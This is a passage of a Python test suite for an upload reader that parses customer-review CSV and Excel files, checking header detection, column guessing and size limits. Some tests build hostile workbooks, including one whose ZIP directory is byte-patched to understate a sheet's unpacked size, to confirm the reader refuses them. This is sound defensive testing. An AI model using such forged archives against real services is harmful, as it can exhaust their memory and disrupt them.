        UserFacingError, match=f"holds {len(zipfile.ZipFile(io.BytesIO(crowded)).namelist()):,} internal files, more than the 1,000"
    ):
        read_upload("crowded.xlsx", crowded)
    rows = "".join(f'<row r="{i}"><c t="inlineStr"><is><t>{french_line(30, i)}</t></is></c></row>' for i in range(1, 8000))
    big = xlsx_with({"xl/worksheets/sheet2.xml": sheet_xml(rows)})
    monkeypatch.setattr(uploads, "MAX_XLSX_UNPACKED_MB", 1)
    with pytest.raises(UserFacingError, match=r"would take \d MB once unpacked, over the limit of 1 MB"):
        uploads.workbook(big)


def test_an_excel_file_whose_directory_understates_a_size_is_damaged_not_read_further() -> None:
    data = bytearray(xlsx_with({"xl/worksheets/sheet2.xml": sheet_xml('<row r="1"><c t="inlineStr"><is><t>x</t></is></c></row>' * 20_000)}))
    # Make the archive's directory claim the sheet unpacks to 2,000 bytes (it is 1.1 MB).
    entry = data.rindex(b"PK\x01\x02", 0, data.rindex(b"xl/worksheets/sheet2.xml"))
    data[entry + 24 : entry + 28] = (2000).to_bytes(4, "little")
    with pytest.raises(UserFacingError, match="could not be opened; it may be damaged"):
        read_upload("lying.xlsx", bytes(data))


def test_a_sheet_with_a_cell_far_away_costs_nothing_and_a_wide_sheet_is_refused() -> None:
    # Cells right of column 501 are never built (a row of XFD cells would be 16,384 wide).
    far = xlsx_with(
        {
            "xl/worksheets/sheet2.xml": sheet_xml(
                '<row r="1"><c r="A1" t="inlineStr"><is><t>text</t></is></c><c r="B1" t="inlineStr"><is><t>label</t></is></c></row>'
                '<row r="2"><c r="A2" t="inlineStr"><is><t>good</t></is></c><c r="B2" t="inlineStr"><is><t>pos</t></is></c></row>'
                '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
            )
        }
    )
    assert seconds(lambda: read_upload("far.xlsx", far, "Reviews")) < 5.0  # about 0.5 s
    table = read_upload("far.xlsx", far, "Reviews")
    assert list(table.frame.columns) == ["text", "label"] and list(table.frame["text"]) == ["good"]
    book = OpenpyxlWorkbook()
    book.active.append([f"column {i}" for i in range(501)])
    book.active.append(["good"] * 501)
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(UserFacingError, match="has more than 500 columns"):
        read_upload("wide.xlsx", out.getvalue())


# ---- fresh feedback: one column, no header, empty label column, blank cells ---------------


def test_a_file_without_header_keeps_its_first_review_and_can_be_read_with_one() -> None:
    table = read("no_header.csv")
    assert table.frame.iloc[0].tolist() == ["Arrived quickly and works exactly as described.", "positive", "Web shop"]
    assert list(table.frame.columns) == ["Column 1", "Column 2", "Column 3"]
    as_header = read_upload("no_header.csv", (DATA / "no_header.csv").read_bytes(), first_row_is_review=False)
    assert not as_header.first_row_is_review and len(as_header.frame) == 11
    assert as_header.frame.columns[0] == "Arrived quickly and works exactly as described."


def test_one_review_per_line_keeps_commas_and_quotes_in_the_text() -> None:
    frame = read("one_column_no_header.csv").frame
    assert frame["Column 1"].tolist() == [text for text, _, _ in make_upload_samples.REVIEWS]
    reviews, report = apply_mapping(frame, guess_columns(frame))
    assert report.kept == 12 and reviews[contract.TEXT].iloc[1] == "The strap broke after two days, complete waste of money."
    assert read("one_column.csv").frame["review"].iloc[3] == 'Great value, but the manual says "plug in first", which is wrong.'


def test_one_column_of_repeated_short_reviews_is_still_the_text() -> None:
    frame = read_upload("thanks.csv", b"comment\nGreat\nThanks!\nGreat\nGreat\nThanks!\nToo slow\n").frame
    assert guess_columns(frame) == ColumnGuess("comment", None, None)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"text,sentiment\nGood value,positive\nBad,negative\n", False),
        (b"text,positive\nGood value,1\nBad,0\nFine,1\n", False),  # a 0/1 column named "positive"
        (b"What could we do better?,Channel\nFaster delivery please,Web\nNothing,App\n", False),
        (b"Store,text\nStore,Good value\nMall,Bad\n", False),  # one name repeated in its column happens
        (b"Great product,5\nAwful,1\nFine,3\n", True),  # "5" above star ratings
        (b"Great product,positive\nAwful,negative\nFine,neutral\n", True),
        (b"Store,Good value\nStore,Good value\nMall,Bad\n", True),  # two names repeated in their columns
        (b"Arrived late but works fine.\nGreat!\nToo expensive for what it is\n", True),
        (b"Great service\nAwful\n", False),  # two words: cannot tell; the user ticks the box
    ],
)
def test_a_missing_header_row_is_detected(data: bytes, expected: bool) -> None:
    table = read_upload("feedback.csv", data)
    assert table.first_row_is_review is expected
    assert len(table.frame) == data.count(b"\n") - (0 if expected else 1)


def test_an_empty_label_column_is_no_label_column() -> None:
    table = read("empty_label_column.csv")
    reviews, report = apply_mapping(table.frame, ColumnGuess("text", "sentiment", "channel"), {})
    assert contract.TRUE_LABEL not in reviews and report.kept == 12 and report.blank_label == 0


def test_text_cells_of_only_spaces_or_invisible_characters_are_left_out_and_counted() -> None:
    table = read("helpdesk_whitespace.csv")
    columns = guess_columns(table.frame)
    reviews, report = apply_mapping(table.frame, ColumnGuess(columns.text, None, columns.category))
    assert report.rows_in_file == 16 and report.empty_text == 4 and report.kept == 12
    assert reviews[contract.TEXT].str.strip().ne("").all()


def test_star_ratings_are_flagged_so_the_user_is_told_how_they_count() -> None:
    assert uploads.uses_star_ratings(propose_label_mapping(["1", "2", "3", "4", "5"]))
    assert uploads.uses_star_ratings(propose_label_mapping(["★★★★☆", "★☆☆☆☆"]))
    assert not uploads.uses_star_ratings(propose_label_mapping(["0", "1"]))
    assert not uploads.uses_star_ratings(propose_label_mapping(["-1", "0", "1"]))
    assert not uploads.uses_star_ratings(propose_label_mapping(["positif", "négatif"]))


def test_a_workbook_without_header_row_keeps_its_first_review() -> None:
    book = OpenpyxlWorkbook()
    for row in [("Arrived late but works fine.", "neutral"), ("Great value!", "positive"), ("Broke at once", "negative")]:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    table = read_upload("feedback.xlsx", out.getvalue())
    assert table.first_row_is_review and list(table.frame.columns) == ["Column 1", "Column 2"]
    assert table.frame["Column 1"].tolist() == ["Arrived late but works fine.", "Great value!", "Broke at once"]
    assert guess_columns(table.frame) == ColumnGuess("Column 1", "Column 2", None)
